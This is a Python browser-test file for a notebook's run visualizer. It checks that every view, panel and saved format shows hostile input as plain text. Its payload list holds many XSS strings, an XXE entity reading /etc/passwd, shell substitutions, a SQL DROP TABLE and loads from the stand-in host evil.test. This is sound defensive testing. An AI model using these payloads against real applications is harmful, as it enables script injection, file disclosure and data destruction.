"""Text that wants to be more than text, in every place where a run's data stands: each view, the panel, the form, the saved files."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from conftest import CHECKOUT
from fronts import Front, node, open_front
from playwright.sync_api import Browser, Dialog, Request, expect
from test_views import show

from resonate.events import PromiseCreated, PromiseSettled
from resonate_notebook.formats import render_dot, render_html, render_json, render_mermaid
from resonate_notebook.model import RunModel
from resonate_notebook.svg import render_svg
from resonate_notebook.text import render_text

ACTS = "window.__xss=1"
TAGS = ["script", "img", "svg", "iframe", "object", "embed", "video", "audio", "body", "input", "details", "marquee", "math", "a", "form"]
TAGS += ["style", "link", "meta", "base", "textarea", "select", "button", "template", "dialog", "table", "frameset", "isindex", "portal"]
PAYLOADS = [
    f"<script>{ACTS}</script>", "<script src=//evil.test/x.js></script>", f"</script><script>{ACTS}</script>", f"<svg onload={ACTS}>",
    f"<svg><script>{ACTS}</script></svg>", f"<svg><animate onbegin={ACTS} attributeName=x dur=1s>", f"<img src=x onerror={ACTS}>",
    "<img src=//evil.test/x.png>", f"\"><img src=x onerror={ACTS}>", f"'><img src=x onerror={ACTS}>", f"--><img src=x onerror={ACTS}>",
    f"]]><img src=x onerror={ACTS}>", f"</title><img src=x onerror={ACTS}>", f"</style><img src=x onerror={ACTS}>",
    f"</textarea><img src=x onerror={ACTS}>", f"</pre><img src=x onerror={ACTS}>",
    f"<iframe srcdoc='<script>parent.{ACTS}</script>'></iframe>", f"<iframe src=javascript:{ACTS}></iframe>",
    f"<a href=javascript:{ACTS}>click</a>", f"javascript:{ACTS}", f"data:text/html,<script>{ACTS}</script>", f"vbscript:{ACTS}",
    f"<details open ontoggle={ACTS}>", f"<input autofocus onfocus={ACTS}>", f"<body onload={ACTS}>",
    f"<video><source onerror={ACTS}></video>", f"<math><mi xlink:href=javascript:{ACTS}>x",
    "<style>*{background:url(//evil.test/s)}</style>", "<link rel=stylesheet href=//evil.test/s.css>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", f"<object data=javascript:{ACTS}>", f"<embed src=javascript:{ACTS}>",
    f"<form action=javascript:{ACTS}><button>go</button></form>",
    "<button data-commandlinker-command=filebrowser:open data-commandlinker-args='{}'>go</button>", f"\" onmouseover={ACTS} x=\"",
    f"' onfocus='{ACTS}' autofocus='", f"`${{{ACTS}}}`", f"${{{ACTS}}}", f"{{{{constructor.constructor('{ACTS}')()}}}}", f"<%= {ACTS} %>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&amp;lt;", "\\u003cscript\\u003e", "%3Cscript%3E", "\\x3cscript\\x3e",
    f"<ScRiPt>{ACTS}</sCrIpT>", f"<script\n>{ACTS}</script\n>", f"<<script>{ACTS}//<</script>", f"<img/src=x/onerror={ACTS}>", "<!--",
    "<![CDATA[", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "<?xml-stylesheet href='//evil.test/x.xsl'?>", "]]>",
    "\x00<b>", "\x1b]8;;http://evil.test\x07x", "\u202e<script>", "\ufeff<b>\u200bx", "\u2028<script>", "__proto__", "constructor",
    "toString", "hasOwnProperty", "a" * 3000 + f"<img src=x onerror={ACTS}>", f"url(javascript:{ACTS})",
    "; background: url(//evil.test/x)", "expression(alert(1))", "$(touch /tmp/hacked)", "`id`", "'; DROP TABLE promises;--",
    *(f"<{tag} onclick={ACTS} onerror={ACTS} onload={ACTS} src=//evil.test/ href=//evil.test/>" for tag in TAGS),
]  # fmt: skip
"""Of our own making: markup, handlers, addresses, styles, templates, entities, ends of what we might be inside, names of JavaScript."""

OURS = {
    "SECTION", "HEADER", "DIV", "SPAN", "B", "I", "P", "BUTTON", "INPUT", "TEXTAREA", "LABEL", "ASIDE", "H3", "H4", "DL", "DT", "DD",
    "PRE", "OL", "UL", "LI", "svg", "path", "rect",
}  # fmt: skip
FOUND = """ours => {
  const wrong = [];
  for (const element of document.querySelectorAll(".rg, .rg *")) {
    if (!ours.includes(element.tagName)) wrong.push(element.tagName);
    for (const { name, value } of element.attributes) {
      if (/^on|^(src|href|srcdoc|action|formaction|data|xlink:href)$/i.test(name)) wrong.push(`${element.tagName} ${name}`);
      if (name === "style" && /url|expression|javascript/i.test(value)) wrong.push(`style ${value}`);
      if (name === "class" && !/^[\\w -]*$/.test(value)) wrong.push(`class ${value}`);
    }
  }
  return wrong;
}"""


@pytest.fixture
def front(front: Front) -> Iterator[Front]:
    """As elsewhere; and nothing of what it was told has run."""
    yield front
    assert front.page.evaluate("[window.__xss ?? null, {}.polluted ?? null, [].__proto__ === Array.prototype]") == [None, None, True]


def everywhere(payload: str, index: int) -> dict[str, Any]:
    """A call with the payload as its name, in its id, as name and text of an argument, as its error and as its kind."""
    about = {"a": [[payload, payload]], "x": payload, "k": payload, "e": 50 + index, "id": f"{payload}{index}"}
    return node(index, 0, payload, "rejected", **about)


@pytest.mark.parametrize("tab", ["Graph", "Tree", "Timeline", "Table"])
def test_no_payload_becomes_more_than_text_in_any_view(front: Front, tab: str) -> None:
    """Over sixty payloads in every field of a call: no script, dialog, foreign request, element or attribute that is not ours."""
    assert len(PAYLOADS) >= 60
    front.snapshot([node(0, -1, "root"), *(everywhere(payload, at + 1) for at, payload in enumerate(PAYLOADS))])
    show(front, tab)
    scroll = front.page.locator(".rg-scroll")
    for part in range(8):
        scroll.evaluate("(scroll, part) => { scroll.scrollTop = part / 7 * scroll.scrollHeight }", part)
        front.settle()
        assert front.page.evaluate(FOUND, sorted(OURS)) == []
    front.page.wait_for_timeout(100)


def test_every_payload_is_shown_as_it_is_in_panel_form_and_answer(front: Front) -> None:
    """In id, name, arguments, error, traceback, tags, value, question and the kernel's answer: the visible text is the payload."""
    for at, payload in enumerate(PAYLOADS):
        asks = [["ask", payload], [payload, payload]]
        calls = [node(0, -1, "root"), everywhere(payload, 1), node(2, 0, payload, "waiting", k="promise", a=asks)]
        calls += [node(3, 0, payload, "resolved", e=9)]
        front.snapshot(calls, id=f"{payload}#{at}", where={"kind": payload, "label": payload}, retryOf=payload, retried=payload)
        show(front, "Table")
        front.page.evaluate("index => { [...document.querySelectorAll('.rg [role=row][data-id]')][index].click() }", 1)
        for answered in (f"{payload}1", "demo.1.3"):
            texts = dict.fromkeys(("value", "error", "traceback"), payload)
            front.deliver(
                {"kind": "detail", "id": answered, "arguments": [[payload, payload]], **texts}
                | {"tags": {payload: payload}, "attempts": 1, "created": 0, "began": 0, "ended": 9, "timeout": 9}
            )
        front.settle()
        told = front.page.evaluate("() => document.querySelector('.rg-panel').textContent").replace("\n", "␊")  # values keep their lines
        seen = front.page.evaluate("async text => (await import('/resonate_notebook/static/document.js')).visible(text)", payload)
        assert told.count(seen[:300]) >= 6, payload
        assert front.page.evaluate(FOUND, sorted(OURS)) == [], payload
    front.page.evaluate("() => document.querySelector('.rg [data-id=\"demo.1.2\"]').click()")
    front.page.get_by_role("textbox").fill("x")
    front.page.get_by_role("button", name="Resolve", exact=True).click()
    front.deliver({"kind": "reply", "token": front.sent("resolve")[-1]["token"], "ok": False, "text": " ".join(PAYLOADS)})
    front.page.get_by_role("searchbox").fill(PAYLOADS[0])
    front.settle()
    assert front.page.evaluate(FOUND, sorted(OURS)) == []


def hostile_run() -> RunModel:
    """The payloads as names, ids, arguments and errors of a run, for what is made without a browser."""
    model = RunModel(PAYLOADS[0], where="server", where_label=PAYLOADS[9])
    model.apply(PromiseCreated(PAYLOADS[0], PAYLOADS[0], 1.0, None, "run", PAYLOADS[6], ((PAYLOADS[8], PAYLOADS[8]),), 99.0))
    for at, payload in enumerate(PAYLOADS):
        call = f"{payload}{at}"
        model.apply(PromiseCreated(PAYLOADS[0], call, 2.0, PAYLOADS[0], "run", payload, ((payload, payload),), 99.0))
        model.apply(PromiseSettled(PAYLOADS[0], call, 3.0, "rejected", False, payload))
    return model


def test_saved_pictures_and_files_hold_payloads_as_text(browser: Browser, origin: str) -> None:
    """SVG and HTML parse as what we made, run nothing and ask for nothing; other forms have no control character left."""
    model = hostile_run()
    svg, page_text = render_svg(model, 9.0), render_html(model, 9.0)
    names = {element.tag.rpartition("}")[2] for element in ET.fromstring(svg).iter()}
    assert names <= {"svg", "title", "desc", "rect", "path", "text", "tspan", "g", "circle", "style", "line", "defs"}
    assert not re.search(r"<[^>]*\s(on\w+|href|src)\s*=", re.sub(r">[^<]*<", "><", svg))
    page = browser.new_page()
    complaints: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((origin, "data:", "blob:", "about:")):
            complaints.append(request.url)

    def refuse(dialog: Dialog) -> None:
        complaints.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("request", note)
    page.on("dialog", refuse)
    page.goto(f"{origin}/tests/browser/page/harness.html")
    for content in (page_text, f"<!doctype html><body>{svg}</body>"):
        page.set_content(content)
        page.wait_for_timeout(150)
        assert page.evaluate("window.__xss ?? null") is None
        made = "img, iframe, object, embed, video, audio, form, link, base, portal, [onerror], [onload], [onclick]"
        assert page.locator(made).count() == 0
        assert page.locator("script").count() == 0
    assert html.escape(PAYLOADS[6]) in page_text or html.escape(PAYLOADS[6], quote=False) in page_text
    page.close()
    assert complaints == []
    json.loads(render_json(model, 9.0))
    for text in (render_text(model, 9.0), render_dot(model, 9.0), render_mermaid(model, 9.0)):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\u200b\ufeff\u2028]", text)


def test_the_page_of_the_tests_would_show_a_script_that_ran(browser: Browser, origin: str) -> None:
    """A test that looks for what never can be seen would be no test."""
    front = open_front(browser, origin)
    front.page.evaluate("() => { document.querySelector('.rg').innerHTML = '<img src=x onerror=\"window.__xss=1\">' }")
    expect(front.page.locator(".rg img")).to_have_count(1)
    assert front.page.evaluate(FOUND, sorted(OURS)) == ["IMG", "IMG src", "IMG onerror"]
    front.page.wait_for_function("window.__xss === 1")
    front.page.close()
    assert CHECKOUT.exists()
